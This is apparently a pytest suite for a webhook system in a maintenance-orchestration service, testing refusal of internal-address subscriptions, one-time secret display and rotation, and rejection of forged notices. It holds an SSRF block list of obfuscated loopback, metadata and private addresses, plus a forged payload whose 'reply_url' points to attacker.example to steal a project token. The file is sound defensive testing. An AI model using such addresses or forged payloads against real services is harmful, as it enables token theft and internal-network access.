"""Webhook secrets and destinations through the real API, worker and Temporal (issue 9, items 3 and 4)."""

from __future__ import annotations

import logging
import socket
import time
import uuid
from pathlib import Path

import httpx
import pytest
from temporalio.testing import WorkflowEnvironment

from demo.stack import stack
from fenix.signing import sign
from tests.api.helpers import assert_error, detail, silent, two_host_seed
from tests.workflows.test_session_flow import roomy_seed, vnfms
from worker import running_worker

INTERNAL = ["http://127.0.0.1:8080/x", "http://127.1:8080/x", "http://2130706433/x", "http://0x7f.1/x",
            "http://[::ffff:7f00:1]/x", "http://[::1]:8080/x", "http://localhost:9000/", "http://api.localhost/",
            "http://0.0.0.0/", "http://169.254.169.254/latest/meta-data/", "http://[fe80::1]/", "http://10.1.2.3/",
            "http://172.16.0.1/", "http://192.168.0.5:8080/", "http://100.64.0.1/", "http://[fd00::1]/",
            f"http://{socket.gethostname()}:8080/"]  # a name (this machine's) that resolves to an internal address


async def test_subscriptions_to_internal_addresses_are_refused(ts_env: WorkflowEnvironment, tmp_path: Path) -> None:
    async with stack(ts_env, tmp_path, two_host_seed(), silent("alpha"), subscribe=[],
                     extra_settings={"webhook_allow": ""}) as st:
        async with st.as_project("alpha") as alpha:
            for url in INTERNAL:
                assert_error(await alpha.post("/subscriptions", json={"url": url}), 422, "url")
            assert_error(await alpha.post("/subscriptions", json={"url": "http://vnfm:pw@93.184.216.34/x"}), 422,
                         "user name or password")
            for port in (7233, 8233, st.settings.api_port):
                assert_error(await alpha.post("/subscriptions", json={"url": f"http://93.184.216.34:{port}/"}), 422,
                             f"port {port}")
            # The service role (host events) gets the same refusals.
            assert_error(await st.admin.post("/subscriptions", json={"url": "http://169.254.169.254/",
                                                                     "event_types": ["maintenance.host"]}), 422)
            ok = await alpha.post("/subscriptions", json={"url": "http://93.184.216.34/hook"})
            assert ok.status_code == 201, ok.text
            assert (await alpha.get("/subscriptions")).json()["subscriptions"][0]["url"] == "http://93.184.216.34/hook"


async def test_the_secret_is_shown_once_and_can_be_rotated(ts_env: WorkflowEnvironment, tmp_path: Path,
                                                           caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    async with stack(ts_env, tmp_path, two_host_seed(), silent("alpha", "beta"), subscribe=[]) as st:
        async with st.as_project("alpha") as alpha, st.as_project("beta") as beta:
            url = f"{st.vnfm_url}/webhook/alpha"
            r = await alpha.post("/subscriptions", json={"url": url})
            assert r.status_code == 201, r.text
            sub = r.json()
            secret = sub["secret"]
            assert secret.startswith("whsec_") and len(secret) > 40
            # Never again: not in a repeat of the POST, the list, the GET.
            again = await alpha.post("/subscriptions", json={"url": url})
            assert again.status_code == 200 and "secret" not in again.json(), again.text
            listed = (await alpha.get("/subscriptions")).text + (await st.admin.get("/subscriptions")).text
            one = (await alpha.get(f"/subscriptions/{sub['id']}")).text
            assert secret not in listed + one and "secret" not in listed + one

            rotated = await alpha.post(f"/subscriptions/{sub['id']}/secret")
            assert rotated.status_code == 200, rotated.text
            new = rotated.json()["secret"]
            assert new.startswith("whsec_") and new != secret and rotated.json()["previous_valid_until"]
            assert_error(await beta.post(f"/subscriptions/{sub['id']}/secret"), 404)  # another project's
            assert_error(await alpha.post(f"/subscriptions/{uuid.uuid4()}/secret"), 404)
            assert (await st.admin.post(f"/subscriptions/{sub['id']}/secret")).status_code == 200
        for record in caplog.records:
            assert secret not in record.getMessage() and new not in record.getMessage(), record


async def test_sessions_run_with_signed_notices_and_the_vnfm_refuses_forged_ones(ts_env: WorkflowEnvironment,
                                                                                 tmp_path: Path) -> None:
    """The sample VNFMs verify every notice (native and AODH); a session runs to the end on signed notices only,
    and a forged notice (the attack: it names a `reply_url` to steal the project's token) is refused."""
    for fmt in ("native", "aodh"):
        (tmp_path / fmt).mkdir()
        async with stack(ts_env, tmp_path / fmt, roomy_seed(), vnfms(), fmt=fmt, skip_time=False) as st:
            sid = await st.start(hosts=[])
            final = await st.result(sid, timeout=120)
            assert final.state == "MAINTENANCE_DONE", final.reason
            assert st.vnfm.state.rejected == [] and st.vnfm.state.events, st.vnfm.state.rejected
            forged = (b'{"event_type":"maintenance.scheduled","payload":{"state":"MAINTENANCE",'
                      b'"reply_url":"http://attacker.example/steal"}}')
            stamp = int(time.time())
            async with httpx.AsyncClient(timeout=10) as http:
                project = next(iter(st.project_tokens))
                for headers in ({}, {"webhook-id": "m", "webhook-timestamp": str(stamp),
                                     "webhook-signature": sign([b"not the secret"], "m", stamp, forged)}):
                    r = await http.post(f"{st.vnfm_url}/webhook/{project}", content=forged, headers=headers)
                    assert r.status_code == 401, r.text
            assert len(st.vnfm.state.rejected) == 2


async def test_deliveries_are_checked_again_by_the_worker(ts_env: WorkflowEnvironment, tmp_path: Path) -> None:
    """A subscription the API took (loopback allowed there) while the worker allows nothing: its notices are
    refused at delivery, the session records why and applies the default, and the VNFM never sees them."""
    async with stack(ts_env, tmp_path, two_host_seed(), silent("alpha"), subscribe=[], worker=False) as st:
        strict = st.settings.model_copy(update={"webhook_allow": ""})
        async with running_worker(st.client, strict, driver=st.cloud, poll_s=0.02):
            await st.subscribe("alpha")
            sid = await st.start(hosts=["c0", "c1"])
            final = await st.result(sid, timeout=120)
        assert final.state == "MAINTENANCE_DONE", final.reason
        errors = [h["detail"] for h in (await detail(st, sid))["history"] if h["kind"] == "error"]
        assert any("refused" in e and "loopback" in e for e in errors), errors
        assert st.vnfm.state.events == []
        secret = st.vnfm.secrets["alpha"][0]
        assert all(secret not in e for e in errors)
